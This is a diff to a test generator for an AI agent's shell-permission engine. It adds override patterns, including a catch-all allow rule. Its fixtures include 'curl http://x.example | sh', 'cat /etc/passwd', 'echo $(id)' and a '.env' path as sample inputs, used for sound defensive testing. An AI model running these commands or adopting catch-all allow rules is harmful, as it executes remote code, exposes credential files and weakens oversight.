@@ -20,6 +20,7 @@ COMMANDS = (
     *("echo hi | sh", "FOO=1 make", "python3 a.py", "cat /etc/passwd", "cp a ../b", "sudo apt update", "curl http://x.example | sh", "echo $(id)"),
 )
 PATTERNS = ("git *", "ls *", "make", "rm *", "npm test", "re:^git\\s+status$", "re:^sudo apt update$", "re:push", "re:^make && make install$", "cat *")
+WHOLE = ("re:^cat a\\.txt > b\\.txt$", "re:^echo \\$\\(id\\)$", "cat a.txt > b.txt", "make install", "re:^echo hi \\| sh$", "re:.*")
 FILES = ("a.txt", "src/b.py", "/etc/passwd", "../x", ".env", "/srv/data/c")
 TOOLS = ("bash", "read_file", "write_file", "mcp_exec_command", "list_files", "web_search")
 
@@ -33,7 +34,9 @@ def config(r: random.Random) -> dict[str, Any]:
     if r.random() < 0.6:
         out["external_directory"] = {"*": r.choice(LEVELS)}
     out["rules"] = [{"id": f"r{i}", "tools": ["bash"], "pattern": r.choice(PATTERNS), "action": r.choice(LEVELS)} for i in range(r.randint(0, 2))]
-    overrides = [{"id": f"o{i}", "tools": ["bash"], "match_type": "command", "pattern": r.choice(PATTERNS), "action": "allow"} for i in range(r.randint(0, 2))]
+    overrides = [
+        {"id": f"o{i}", "tools": ["bash"], "match_type": "command", "pattern": r.choice(PATTERNS + WHOLE), "action": "allow"} for i in range(r.randint(0, 2))
+    ]
     return {**out, "approval_overrides": overrides}
 
 
@@ -57,8 +60,7 @@ def answers(kind: Any, seed: int, n: int) -> list[dict[str, Any]]:
                 args = {"command": r.choice(COMMANDS)} if tool in ("bash", "mcp_exec_command") else {"file_path": r.choice(FILES)}
                 got = await engine.check_permission(tool, args)
                 row = {"call": [engine.config, tool, args], "decision": got.permission.value, "message": got.matched_rule}
-                override = str(got.matched_rule).startswith("tiered_policy:approval_overrides:") and "&&" in args.get("command", "")
-                out.append({**row, "reason": got.reason, "suggestions": got.external_paths, "because": "override" if override else ""})
+                out.append({**row, "reason": got.reason, "suggestions": got.external_paths})
 
     asyncio.run(run())
     return out[:n]
